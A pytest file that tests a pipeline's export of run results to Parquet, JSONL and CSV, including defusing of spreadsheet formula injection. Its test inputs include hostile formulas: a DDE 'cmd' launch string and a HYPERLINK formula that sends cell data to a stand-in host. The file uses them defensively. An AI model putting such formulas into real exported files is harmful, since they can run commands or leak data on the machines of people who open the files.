"""All parts of a run as one file: every column type in every format, whole or not at all."""

import csv
import datetime as dt
import json
import unicodedata
from decimal import Decimal
from pathlib import Path
from typing import Any

import polars as pl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.errors import JobError, RunFolderError
from pipeline.export import _defused, export
from pipeline.journal import Journal


def run_folder(folder: Path, *parts: pa.Table, rows: int | None = None, first: int = 0) -> Path:
    out = folder / "run"
    (out / "results").mkdir(parents=True)
    journal = Journal(out)
    journal.write_manifest({"rows": str(sum(part.num_rows for part in parts) if rows is None else rows)})
    journal.close()
    for number, part in enumerate(parts, first):
        tagged = part.replace_schema_metadata({"promptmill": str(number)})
        pq.write_table(tagged, out / "results" / f"part-{number:05d}.parquet")
    return out


def exported(run: Path, name: str, **options: bool) -> Path:
    output = run.parent / name
    export(run, output, on_note=pytest.fail, **options)
    return output


def cells(run: Path, **options: bool) -> list[list[str]]:
    with exported(run, "out.csv", **options).open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def lines(run: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in exported(run, "out.jsonl").read_text("utf-8").splitlines()]


# type, value, in JSONL, in CSV
KINDS: list[tuple[pa.DataType, Any, Any, str]] = [
    (pa.string(), 'a "b",\nc', 'a "b",\nc', 'a "b",\nc'),
    (pa.int64(), -(2**63), -(2**63), str(-(2**63))),
    (pa.uint64(), 2**64 - 1, 2**64 - 1, str(2**64 - 1)),
    (pa.float64(), 0.1, 0.1, "0.1"),
    (pa.float64(), float("inf"), None, "inf"),
    (pa.bool_(), True, True, "true"),
    (pa.null(), None, None, ""),
    (pa.decimal128(18, 9), Decimal("0.000000001"), "0.000000001", "0.000000001"),
    (pa.binary(), b"\x00\xff", "AP8=", "AP8="),
    (pa.binary(3), b"abc", "YWJj", "YWJj"),
    (pa.date32(), dt.date(2026, 3, 1), "2026-03-01", "2026-03-01"),
    (pa.duration("us"), dt.timedelta(seconds=90), "PT1M30S", "PT1M30S"),
    (pa.timestamp("us", tz="UTC"), 0, "1970-01-01T00:00:00+00:00", "1970-01-01T00:00:00.000000+0000"),
    (pa.list_(pa.int64()), [1, None], [1, None], "[1,null]"),
    (pa.list_(pa.int64()), [], [], "[]"),
    (pa.list_(pa.int64(), 2), [1, 2], [1, 2], "[1,2]"),
    (pa.list_(pa.binary()), [b"\xff"], ["/w=="], '["/w=="]'),
    (pa.list_(pa.list_(pa.string())), [["=a", 'b"']], [["=a", 'b"']], '[["=a","b\\""]]'),
    (
        pa.struct([("a", pa.int64()), ("b", pa.binary())]),
        {"a": 1, "b": b"a"},
        {"a": 1, "b": "YQ=="},
        '{"a":1,"b":"YQ=="}',
    ),
    (pa.list_(pa.struct([("id", pa.string())])), [{"id": None}], [{"id": None}], '[{"id":null}]'),
    (
        pa.struct([("d", pa.list_(pa.decimal128(4, 1)))]),
        {"d": [Decimal("1.5")]},
        {"d": ["1.5"]},
        '{"d":["1.5"]}',
    ),
    (pa.map_(pa.string(), pa.int64()), [("k", 1)], {"k": 1}, '{"k":1}'),
]


@pytest.mark.parametrize(("kind", "value", "in_jsonl", "in_csv"), KINDS)
def test_every_column_type_is_exported(
    tmp_path: Path, kind: pa.DataType, value: Any, in_jsonl: Any, in_csv: str
) -> None:
    part = pa.table({"n": [0, 1], "x": pa.array([value, None], kind)})
    run = run_folder(tmp_path, part)
    assert pq.read_table(exported(run, "out.parquet")).equals(part)
    assert lines(run) == [{"n": 0, "x": in_jsonl}, {"n": 1, "x": None}]
    assert cells(run) == [["n", "x"], ["0", in_csv], ["1", ""]]


def test_parts_stand_one_behind_the_other_in_number_not_in_name(tmp_path: Path) -> None:
    parts = [pa.table({"n": [n]}) for n in range(3)]
    run = run_folder(tmp_path, *parts, first=99_999)
    assert [line["n"] for line in lines(run)] == [0, 1, 2]
    assert pq.read_table(exported(run, "out.parquet"))["n"].to_pylist() == [0, 1, 2]


def test_parquet_keeps_the_types_and_none_of_a_parts_own_metadata(tmp_path: Path) -> None:
    run = run_folder(tmp_path, pa.table({"s": ["a"], "t": pa.array([0], pa.time64("us"))}))
    schema = pq.read_schema(exported(run, "out.parquet"))
    assert schema.types == [pa.string(), pa.time64("us")]
    assert schema.metadata is None


def test_the_rows_are_counted(tmp_path: Path) -> None:
    run = run_folder(tmp_path, pa.table({"n": [0, 1]}), pa.table({"n": [2]}))
    assert export(run, tmp_path / "out.jsonl", on_note=pytest.fail) == 3


# Spreadsheets


SIGNS = sorted(
    {char for char in map(chr, range(0x110000)) if unicodedata.normalize("NFKC", char)[:1] in tuple("=+-@")}
    | {"−"}
)


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\tx", "\rx", "\nx", "=", *(f"{sign}1" for sign in SIGNS),
     " =1", "\u00a0=1", "\u3000-1", "\u200b=1", "\ufeff=1", "\x00=1", "\x1b \u2066@a", "\n \n=1", "=cmd|' /C calc'!A0",
     '=HYPERLINK("http://h/?"&A1,"x")', "-1+1;b", '+"a",b'],
)  # fmt: skip
def test_text_that_a_spreadsheet_would_run_is_defused_in_csv_alone(tmp_path: Path, text: str) -> None:
    run = run_folder(tmp_path, pa.table({"x": [text, f"a{text}"], text: ["y", None]}))
    assert cells(run) == [["x", f"'{text}"], [f"'{text}", "y"], [f"a{text}", ""]]
    assert cells(run, formulas=True) == [["x", text], [text, "y"], [f"a{text}", ""]]
    assert lines(run)[0] == {"x": text, text: "y"}


@pytest.mark.parametrize(
    "text", ["a=1", "'=1", '"=1"', "1-1", "(-1)", "", " ", "a\n=1", "a;=1", "中=1", "–1", "_=1", "!@"]
)
def test_text_that_no_spreadsheet_would_run_stays_as_it_is(tmp_path: Path, text: str) -> None:
    assert cells(run_folder(tmp_path, pa.table({"x": [text]}))) == [["x"], [text]]


def test_text_within_lists_and_structs_stands_behind_their_brackets(tmp_path: Path) -> None:
    struct = pa.array([{"=a": ["=1"]}], pa.struct([("=a", pa.list_(pa.string()))]))
    pairs = pa.array([[("=k", "=v")]], pa.map_(pa.string(), pa.string()))
    run = run_folder(tmp_path, pa.table({"l": [["=1"]], "s": struct, "m": pairs}))
    assert [cell[0] for cell in cells(run)[1]] == ["[", "{", "{"]


def test_columns_that_become_alike_are_told_apart(tmp_path: Path) -> None:
    run = run_folder(tmp_path, pa.table({"=a": [1], "'=a": [2], "''=a": [3], "b": [4]}))
    assert cells(run)[0] == ["'" * 3 + "=a", "'=a", "''=a", "b"]
    assert cells(run, formulas=True)[0] == ["=a", "'=a", "''=a", "b"]


def test_a_column_whose_name_reads_like_a_pattern_is_one_column(tmp_path: Path) -> None:
    inner = pa.struct([("*", pa.binary()), ("^.*$", pa.binary())])
    values = pa.array([{"*": b"a", "^.*$": b"b"}], inner)
    run = run_folder(tmp_path, pa.table({"*": ["a"], "^.*$": ["b"], "x": ["c"], "": [1], "s": values}))
    assert lines(run) == [{"*": "a", "^.*$": "b", "x": "c", "": 1, "s": {"*": "YQ==", "^.*$": "Yg=="}}]
    assert cells(run)[0] == ["*", "^.*$", "x", "", "s"]
    assert cells(run)[1][:4] == ["a", "b", "c", "1"]


# Characters that are assigned: of the others Python's tables and polars' own, which are of another Unicode, think differently.
ASSIGNED = st.characters(exclude_categories=("Cn", "Cs"))


@settings(max_examples=200, deadline=None)
@given(text=st.text(ASSIGNED, max_size=12) | st.text(st.sampled_from("=+-@ \t\n\u200b'\"a,;＝"), max_size=6))
def test_no_cell_begins_as_a_formula_whatever_is_seen_of_it(text: str) -> None:
    shown = pl.select(_defused(pl.lit(text))).item()
    visible = text.lstrip("".join(char for char in text if unicodedata.category(char)[0] in "ZC"))
    runs = text.startswith(("\t", "\r", "\n")) or visible.startswith(tuple(SIGNS))
    assert shown == ("'" + text if runs else text)


def test_numbers_are_not_taken_for_formulas(tmp_path: Path) -> None:
    run = run_folder(tmp_path, pa.table({"i": [-1], "f": [-0.5], "d": [Decimal("-1.5")]}))
    assert cells(run)[1] == ["-1", "-0.5", "-1.5"]


def test_base64_that_begins_like_a_formula_is_defused(tmp_path: Path) -> None:
    run = run_folder(tmp_path, pa.table({"x": pa.array([b"\xf8\x00\x00"])}))
    assert cells(run)[1] == ["'+AAA"]


# What is not there, and what cannot be


def test_rows_still_open_are_told_of_also_where_no_part_is_missing_in_between(tmp_path: Path) -> None:
    run = run_folder(tmp_path, pa.table({"n": [0, 1]}), rows=5)
    notes: list[str] = []
    assert export(run, tmp_path / "out.csv", on_note=notes.append) == 2
    assert notes == ["the run is not finished: 2 of 5 rows are exported, those of its finished parts"]


def test_a_run_without_a_part_has_nothing_to_export(tmp_path: Path) -> None:
    with pytest.raises(RunFolderError, match="has no finished part yet; see `promptmill status"):
        export(run_folder(tmp_path, rows=5), tmp_path / "out.csv", on_note=pytest.fail)


def test_another_folder_is_no_run(tmp_path: Path) -> None:
    with pytest.raises(RunFolderError, match="is not a run folder"):
        export(tmp_path, tmp_path / "out.csv", on_note=pytest.fail)


@pytest.mark.parametrize("name", ["out.xlsx", "out", "out.csv.gz"])
def test_another_ending_is_refused_with_the_known_ones(tmp_path: Path, name: str) -> None:
    with pytest.raises(JobError, match=r"export writes \.parquet, \.jsonl, \.csv"):
        export(tmp_path, tmp_path / name, on_note=pytest.fail)


def test_nothing_is_written_among_the_parts(tmp_path: Path) -> None:
    run = run_folder(tmp_path, pa.table({"n": [0]}))
    with pytest.raises(JobError, match="write it elsewhere"):
        export(run, run / "results" / "all.parquet", on_note=pytest.fail)
    assert len(list((run / "results").iterdir())) == 1


@pytest.mark.parametrize("name", ["file.txt/out.csv", "taken.csv"])
def test_a_place_that_cannot_be_written_is_said_and_left_as_it_was(tmp_path: Path, name: str) -> None:
    run = run_folder(tmp_path, pa.table({"n": [0]}))
    (tmp_path / "file.txt").touch()
    (tmp_path / "taken.csv").mkdir()
    before = sorted(tmp_path.iterdir())
    with pytest.raises(JobError, match="cannot be written"):
        export(run, tmp_path / name, on_note=pytest.fail)
    assert sorted(tmp_path.iterdir()) == before


def test_a_type_that_a_format_has_not_is_said_and_leaves_no_file(tmp_path: Path) -> None:
    run = run_folder(tmp_path, pa.table({"x": pa.array([Decimal("1.5")], pa.decimal256(60, 9))}))
    with pytest.raises(JobError, match=r"out\.csv cannot be written"):
        export(run, tmp_path / "out.csv", on_note=pytest.fail)
    assert [path.name for path in tmp_path.iterdir()] == ["run"]


def test_an_earlier_export_is_replaced(tmp_path: Path) -> None:
    run = run_folder(tmp_path, pa.table({"n": [0]}))
    (tmp_path / "out.csv").write_text("old")
    assert cells(run) == [["n"], ["0"]]
